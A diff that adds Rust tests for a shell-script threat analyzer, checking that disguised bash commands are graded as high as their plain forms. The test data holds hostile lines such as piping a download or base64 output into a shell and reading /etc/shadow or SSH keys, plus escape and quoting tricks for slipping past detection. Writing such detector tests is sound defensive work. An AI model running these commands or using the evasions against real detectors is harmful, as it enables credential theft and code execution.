@@ -1,0 +1,122 @@
+//! Evasions a tester found: dangerous programs that disguise the name a rule reads (an alias, a
+//! prefix, a quote, a name built at run time). Each disguised form must be graded at least as
+//! high as its plain form, and each test names the rule that catches it.
+
+use std::sync::OnceLock;
+
+use warden_analysis::Analyzer;
+use warden_core::{Analysis, ThreatLevel};
+
+fn analyzer() -> &'static Analyzer {
+    static ANALYZER: OnceLock<Analyzer> = OnceLock::new();
+    ANALYZER.get_or_init(|| Analyzer::builtin().expect("the embedded rule files load"))
+}
+
+fn describe(analysis: &Analysis) -> String {
+    analysis
+        .findings
+        .iter()
+        .map(|f| format!("  line {} {} {} {:?}", f.line, f.severity, f.rule, f.excerpt))
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
+/// Asserts, for each (plain, disguised, rule): the disguised program is graded at least as
+/// high as the plain one, which is graded above `none`, and `rule` reports it.
+fn assert_disguises_caught(language: &str, cases: &[(&str, &str, &str)]) {
+    let mut failures = Vec::new();
+    for &(plain, disguised, rule) in cases {
+        let expected = analyzer().analyze(language, plain.as_bytes());
+        let found = analyzer().analyze(language, disguised.as_bytes());
+        let caught = found.findings.iter().any(|f| f.rule == rule);
+        if expected.threat_level == ThreatLevel::None
+            || found.threat_level < expected.threat_level
+            || !caught
+        {
+            failures.push(format!(
+                "{disguised:?}: {} without {rule} (plain {plain:?}: {})\n{}",
+                found.threat_level,
+                expected.threat_level,
+                describe(&found)
+            ));
+        }
+    }
+    assert!(failures.is_empty(), "{language}:\n{}", failures.join("\n"));
+}
+
+/// Asserts that each program is graded exactly `level`: disguises only an ordinary program
+/// would use are not pushed higher.
+fn assert_graded(language: &str, level: ThreatLevel, programs: &[&str]) {
+    for program in programs {
+        let analysis = analyzer().analyze(language, program.as_bytes());
+        assert_eq!(
+            analysis.threat_level,
+            level,
+            "{language}: {program:?}\n{}",
+            describe(&analysis)
+        );
+    }
+}
+
+#[test]
+fn bash_command_names_are_read_through_escapes_quotes_and_prefixes() {
+    assert_disguises_caught(
+        "bash",
+        &[
+            ("eval \"$c\"", "\\eval \"$c\"", "bash.eval"),
+            ("eval \"$c\"", "echo hi\n\\eval \"$c\"", "bash.eval"),
+            ("eval \"$c\"", "builtin eval \"$c\"", "bash.eval"),
+            ("eval \"$c\"", "command eval \"$c\"", "bash.eval"),
+            ("eval \"$c\"", "'eval' \"$c\"", "bash.eval"),
+            ("eval \"$c\"", "e=eval; $e \"$c\"", "bash.hidden_command"),
+            ("eval \"$c\"", "$'\\x65val' \"$c\"", "bash.hidden_command"),
+            ("eval \"$c\"", "e\"va\"l \"$c\"", "bash.hidden_command"),
+            ("echo aGk= | base64 -d | bash", "echo aGk= | base64 -d | \\bash", "bash.decode_and_run"),
+            ("echo aGk= | base64 -d | bash", "echo aGk= | base64 -d | env bash", "bash.decode_and_run"),
+            ("curl -s http://x | sh", "curl -s http://x | 'sh'", "bash.download_and_run"),
+            ("gcc x.c", "\\gcc x.c", "bash.native_code"),
+            ("gcc x.c", "ls\n\\gcc x.c", "bash.native_code"),
+            ("gcc x.c", "command gcc x.c", "bash.native_code"),
+            ("bash -c id", "'bash' -c id", "bash.shell"),
+            ("bash -c id", "\"bash\" -c id", "bash.shell"),
+            ("bash -c id", "env bash -c id", "bash.shell"),
+            ("cat /etc/passwd", "\\cat /etc/passwd", "bash.file_outside_workdir"),
+            ("cat /etc/passwd", "echo hi\n\\cat /etc/passwd", "bash.file_outside_workdir"),
+            ("unshare -r sh", "\\unshare -r sh", "bash.sandbox_escape"),
+            ("unshare -r sh", "exec unshare -r sh", "bash.sandbox_escape"),
+            ("sudo id", "\\sudo id", "bash.sandbox_escape"),
+            ("sudo id", "'sudo' id", "bash.sandbox_escape"),
+            ("curl http://x", "\\curl http://x", "bash.network"),
+            ("source <(cat)", "source /dev/fd/0", "bash.eval"),
+            ("source <(cat)", ". /dev/stdin", "bash.eval"),
+            ("LD_PRELOAD=x.so prog", "env LD_PRELOAD=x.so prog", "bash.native_code"),
+            ("LD_PRELOAD=x.so prog", "exec env LD_PRELOAD=x.so prog", "bash.native_code"),
+            ("cat /etc/shadow", "cat /etc/sha\"\"dow", "bash.credentials"),
+            ("cat /etc/shadow", "cat /etc/'sha'dow", "bash.credentials"),
+            ("cat ~/.ssh/id_rsa", "cat ~/.ssh/id_\"rsa\"", "bash.credentials"),
+            ("pip install x", "\\pip install x", "bash.package_install"),
+        ],
+    );
+}
+
+#[test]
+fn bash_ordinary_indirection_stays_low() {
+    assert_graded(
+        "bash",
+        ThreatLevel::Low,
+        &[
+            "#!/bin/sh\nrun() { \"$@\"; }\nrun echo hi\n",
+            "for tool in sort uniq; do\n  $tool --version\ndone\n",
+        ],
+    );
+    assert_graded(
+        "bash",
+        ThreatLevel::None,
+        &[
+            "if command -v gcc >/dev/null; then echo has gcc; fi\n",
+            "name=\"world\"\necho \"hello $name\"\n",
+            "mode=sort\necho $mode\n",
+            "f=\"$dir\"'/x'\necho \"$f\"\n",
+        ],
+    );
+}
